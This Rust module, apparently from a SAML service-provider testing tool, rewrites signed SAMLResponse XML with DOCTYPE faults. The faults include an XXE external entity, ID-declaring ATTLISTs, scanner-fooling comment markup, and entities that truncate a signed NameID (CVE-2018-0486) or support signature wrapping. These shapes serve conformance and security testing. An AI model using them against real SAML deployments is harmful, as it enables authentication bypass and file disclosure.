//! The document stage: edits of the final Response XML, after everything is signed, encrypted
//! and assembled, just before it is base64-encoded into `SAMLResponse`.

use super::DoctypeSubset;
use super::FaultError;
use crate::saml::mint::MintError;

/// The XML declaration every DOCTYPE variant starts with (a DOCTYPE must follow it directly).
const XML_DECL: &str = r#"<?xml version="1.0" encoding="UTF-8"?>"#;

/// `doctype { subset }`: prepend a DOCTYPE. SAML messages never carry one (SAML core §1.3.1
/// forbids DTDs in SAML messages), so a safe SP refuses every variant unread; the variants
/// separate that fix from the partial ones (docs/advisories.md S8):
///
/// - `external-entity`: an external entity at `fetch_recorder_url` (the broker's recorder for
///   this flow, so a fetch is evidence), referenced in the Response's Issuer (XXE);
/// - `bare`: `<!DOCTYPE samlp:Response>` and nothing else;
/// - `attlist`: an internal subset declaring the Response's and Assertion's `ID` as ID
///   attributes (what the xmlseclibs entity-reference-ID and XMLTooling shapes rely on);
/// - `comment-markup`: an internal-subset comment holding `]>` and `<ds:Signature>`-looking
///   markup (a scanner that cuts the DOCTYPE at the first `]>` or greps for a Signature is
///   fooled; a real parser sees a comment);
/// - `internal-entity`: an internal entity whose replacement text is the tail of
///   `Response/@Destination`, so the Destination is right only after expansion;
/// - `entity-in-name-id`: an internal entity whose replacement text is the tail of the signed
///   NameID of a *plaintext* assertion (from the first `-` of the UUID on). The signature is
///   still valid (canonicalisation expands the entity); a reader that drops entity-reference
///   nodes sees a truncated NameID (XMLTooling CVE-2018-0486). Needs `no-encryption`: the
///   decrypted fragment of an EncryptedAssertion never carries the Response's DTD.
pub(crate) fn doctype(
    response: &mut String,
    subset: DoctypeSubset,
    fetch_recorder_url: Option<&str>,
) -> Result<(), MintError> {
    let body = response
        .strip_prefix(XML_DECL)
        .unwrap_or(response.as_str())
        .to_string();
    let (internal, body) = match subset {
        DoctypeSubset::ExternalEntity => {
            let url = fetch_recorder_url.unwrap_or("http://127.0.0.1:9/xxe");
            let decl = format!(
                r#"<!ENTITY xxe SYSTEM "{}">"#,
                crate::saml::xml::escape_attr(url)
            );
            let body = match body.find("</saml:Issuer>") {
                Some(pos) => format!("{}&xxe;{}", &body[..pos], &body[pos..]),
                None => body,
            };
            (Some(decl), body)
        }
        DoctypeSubset::Bare => (None, body),
        DoctypeSubset::Attlist => (
            Some(
                "<!ATTLIST samlp:Response ID ID #IMPLIED><!ATTLIST saml:Assertion ID ID #IMPLIED>"
                    .to_string(),
            ),
            body,
        ),
        DoctypeSubset::CommentMarkup => (
            Some(
                r#"<!-- ]> <ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:Reference URI=""/></ds:SignedInfo><ds:SignatureValue>AA==</ds:SignatureValue></ds:Signature> -->"#
                    .to_string(),
            ),
            body,
        ),
        DoctypeSubset::InternalEntity => {
            let (body, tail) = entity_tail_of_attribute(&body, "Destination")?;
            (Some(entity_decl("d", &tail)?), body)
        }
        DoctypeSubset::EntityInNameId => {
            let (body, tail) = entity_tail_of_name_id(&body)?;
            (Some(entity_decl("n", &tail)?), body)
        }
    };
    let subset = internal.map(|s| format!(" [{s}]")).unwrap_or_default();
    *response = format!("{XML_DECL}<!DOCTYPE samlp:Response{subset}>{body}");
    Ok(())
}

/// `<!ENTITY name "value">`. Character references in an entity literal are expanded when it is
/// declared and the result is parsed again where it is referenced, so only values without
/// markup characters are written (the URL and UUID tails these faults use never have any).
fn entity_decl(name: &str, value: &str) -> Result<String, MintError> {
    if value.contains(['&', '<', '%', '"']) {
        return Err(FaultError::NotApplicable(format!(
            "entity value {value:?} holds markup characters; refusing to write an ambiguous DTD"
        ))
        .into());
    }
    Ok(format!(r#"<!ENTITY {name} "{value}">"#))
}

/// The first `attr="…"` of the document (the Response's own, as the Response start tag comes
/// first) with its value's second half replaced by `&d;`: the document and that half (as
/// written, so still attribute-escaped; `entity_decl` refuses it if it holds any escape).
fn entity_tail_of_attribute(body: &str, attr: &str) -> Result<(String, String), MintError> {
    let open = format!(" {attr}=\"");
    let missing = || FaultError::NotApplicable(format!("the Response has no {attr} attribute"));
    let start = body.find(&open).ok_or_else(missing)? + open.len();
    let len = body[start..].find('"').ok_or_else(missing)?;
    let value = &body[start..start + len];
    // Halfway (on a character boundary): the literal part alone is a wrong Destination.
    let split = value
        .char_indices()
        .map(|(i, _)| i)
        .find(|i| *i >= value.len() / 2)
        .unwrap_or(value.len());
    let tail = value[split..].to_string();
    let out = format!("{}&d;{}", &body[..start + split], &body[start + len..]);
    Ok((out, tail))
}

/// The plaintext assertion's NameID text with everything from the UUID's first `-` replaced
/// by `&n;`: the document and the replaced text.
fn entity_tail_of_name_id(body: &str) -> Result<(String, String), MintError> {
    let missing = || {
        FaultError::NotApplicable(
            "entity-in-name-id needs a plaintext assertion with a NameID (add `no-encryption`)"
                .to_string(),
        )
    };
    let open = body.find("<saml:NameID").ok_or_else(missing)?;
    let text_start = open + body[open..].find('>').ok_or_else(missing)? + 1;
    let text_len = body[text_start..]
        .find("</saml:NameID>")
        .ok_or_else(missing)?;
    let text = &body[text_start..text_start + text_len];
    let last_segment = text.rfind('/').map_or(0, |i| i + 1);
    let split = text[last_segment..]
        .find('-')
        .map_or(text.len() / 2, |i| last_segment + i);
    let tail = text[split..].to_string();
    let out = format!(
        "{}&n;{}",
        &body[..text_start + split],
        &body[text_start + text_len..]
    );
    Ok((out, tail))
}

/// `replace-text`: every occurrence of `find` replaced, for the shapes no other fault writes.
pub(crate) fn replace_text(response: &mut String, find: &str, replace: &str) {
    *response = response.replace(find, replace);
}

/// Put `element` in the Response's `samlp:Extensions`, at its schema place (before
/// `samlp:Status`), or inside the Extensions another fault already wrote: where the
/// document-stage faults that add an element outside the signed and encrypted parts put it.
pub(crate) fn insert_in_extensions(response: &mut String, element: &str) {
    if let Some(pos) = response.find("</samlp:Extensions>") {
        response.insert_str(pos, element);
    } else if let Some(pos) = response.find("<samlp:Status") {
        response.insert_str(
            pos,
            &format!("<samlp:Extensions>{element}</samlp:Extensions>"),
        );
    }
}

/// `void-c14n { on = "response" }`: the relative namespace declared on `samlp:Response`, the
/// ancestor of everything a verifier canonicalises (CVE-2025-66475's regression fixture puts
/// `xmlns:example="1"` there).
pub(crate) fn relative_namespace_on_response(response: &mut String) {
    *response = super::signed_assertion::declare_after(response, "<samlp:Response");
}

/// `entity-ref-id { placement = "extensions" }`, the document stage's part: the Response's DTD
/// declaring the entity `&i;` as the genuine assertion's ID (the assembly stage wrote the evil
/// assertion's `ID="&i;"`).
pub(crate) fn entity_id_doctype(
    response: &mut String,
    cx: &super::StageContext<'_>,
) -> Result<(), MintError> {
    let id = cx
        .model
        .assertions
        .first()
        .and_then(|a| a.id.as_deref())
        .ok_or_else(|| FaultError::NotApplicable("the assertion has no ID".into()))?;
    let dtd = super::wrapping::id_entity_doctype("samlp:Response", id)?;
    let body = response
        .strip_prefix(XML_DECL)
        .unwrap_or(response.as_str())
        .to_string();
    *response = format!("{XML_DECL}{dtd}{body}");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const R: &str = r#"<?xml version="1.0" encoding="UTF-8"?><samlp:Response Destination="https://sp.example/acs" ID="_r"><saml:Issuer>i</saml:Issuer><saml:Assertion><saml:Subject><saml:NameID Format="f">https://data.gov.dk/model/core/eid/person/uuid/8f3c2b1a-4d5e-4f60-8a71-92b3c4d5e6f7</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"#;

    fn with(subset: DoctypeSubset) -> Result<String, MintError> {
        let mut x = R.to_string();
        doctype(&mut x, subset, Some("http://127.0.0.1:1/rec")).map(|()| x)
    }

    #[test]
    fn every_subset_yields_one_doctype_after_the_declaration() {
        for s in [
            DoctypeSubset::ExternalEntity,
            DoctypeSubset::Bare,
            DoctypeSubset::Attlist,
            DoctypeSubset::CommentMarkup,
            DoctypeSubset::InternalEntity,
            DoctypeSubset::EntityInNameId,
        ] {
            let x = with(s).unwrap();
            assert!(
                x.starts_with(r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE samlp:Response"#),
                "{s:?}"
            );
            assert_eq!(x.matches("<?xml").count(), 1, "{s:?}");
            assert_eq!(x.matches("<!DOCTYPE").count(), 1, "{s:?}");
        }
        assert!(
            with(DoctypeSubset::ExternalEntity)
                .unwrap()
                .contains(r#"<!ENTITY xxe SYSTEM "http://127.0.0.1:1/rec">]><samlp:Response"#)
        );
        assert!(
            with(DoctypeSubset::Bare)
                .unwrap()
                .contains("<!DOCTYPE samlp:Response><samlp:Response")
        );
    }

    #[test]
    fn entities_hold_exactly_the_text_they_replace() {
        let x = with(DoctypeSubset::InternalEntity).unwrap();
        assert!(x.contains(r#"<!ENTITY d "example/acs">"#), "{x}");
        assert!(x.contains(r#"Destination="https://sp.&d;""#), "{x}");
        let n = with(DoctypeSubset::EntityInNameId).unwrap();
        assert!(
            n.contains(r#"<!ENTITY n "-4d5e-4f60-8a71-92b3c4d5e6f7">"#),
            "{n}"
        );
        assert!(
            n.contains(">https://data.gov.dk/model/core/eid/person/uuid/8f3c2b1a&n;</saml:NameID>"),
            "{n}"
        );
        assert!(entity_decl("e", "a&amp;b").is_err());
    }

    #[test]
    fn entity_in_name_id_needs_a_plaintext_assertion() {
        let mut x = R.replace("saml:NameID", "saml:Other");
        let e = doctype(&mut x, DoctypeSubset::EntityInNameId, None).unwrap_err();
        assert!(e.to_string().contains("no-encryption"), "{e}");
    }
}
